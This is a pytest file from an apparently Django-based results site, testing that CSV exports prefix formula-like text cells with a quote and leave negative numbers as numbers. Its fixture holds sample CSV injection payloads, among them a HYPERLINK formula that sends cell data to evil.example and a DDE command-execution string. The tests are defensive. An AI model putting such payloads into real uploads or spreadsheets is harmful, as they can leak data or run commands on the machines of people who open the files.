"""CSV formula injection: a text cell an uploader chose never reaches a spreadsheet as a formula, in any export.

OWASP's rule: a cell starting with =, +, -, @, a tab or a carriage return is prefixed with a single quote. Numbers
are not text: a negative phase value stays a number a spreadsheet can add up.
"""

import csv
import io

import pytest
from django.core.management import call_command

from apps.results.models import PhaseResult
from apps.results.services.custom_lists import save_custom_list
from tests.factories import InstitutionFactory, RunFactory, StorageSystemFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "institution": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "system": "+cmd|' /C calc'!A0",
    "filesystem": "-2+3",
    "storage_vendor": "@SUM(1+1)*cmd",
}


@pytest.fixture
def hostile_run():
    institution = InstitutionFactory(name=HOSTILE["institution"])
    system = StorageSystemFactory(
        institution=institution,
        name=HOSTILE["system"],
        filesystem=HOSTILE["filesystem"],
        storage_vendor=HOSTILE["storage_vendor"],
    )
    run = RunFactory(system=system, source_path="\tInst/\rSys/2024/submission-1")
    PhaseResult.objects.filter(run=run, name="find").update(value=-1.5)
    return run


def table(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def body(response) -> str:
    return b"".join(response.streaming_content).decode()


def assert_neutralised(row: dict) -> None:
    assert row["institution"] == "'" + HOSTILE["institution"]
    assert row["system"] == "'" + HOSTILE["system"]
    assert row["filesystem"] == "'" + HOSTILE["filesystem"]
    assert row["source_path"] == "'\tInst/\rSys/2024/submission-1"


def test_a_list_export_neutralises_formulas_and_keeps_negative_numbers(client, hostile_run):
    (row,) = table(body(client.get("/lists/io500/export.csv")))

    assert_neutralised(row)
    assert row["storage_vendor"] == "'" + HOSTILE["storage_vendor"]
    assert row["find"] == "-1.5"
    assert float(row["score_bw"]) == 100.0


def test_a_custom_list_export_neutralises_formulas(
    client, hostile_run, django_capture_on_commit_callbacks, celery_eager
):
    with django_capture_on_commit_callbacks(execute=True):
        custom = save_custom_list("=1+1", "score", base_list="io500")

    (row,) = table(body(client.get(f"/lists/custom/{custom.token}/export.csv")))

    assert_neutralised(row)


def test_export_runs_neutralises_formulas_and_keeps_negative_numbers(hostile_run, tmp_path):
    out = tmp_path / "runs.csv"
    call_command("export_runs", "--format", "csv", "-o", str(out))

    (row,) = table(out.open(newline="").read())

    assert_neutralised(row)
    assert row["find"] == "-1.5"
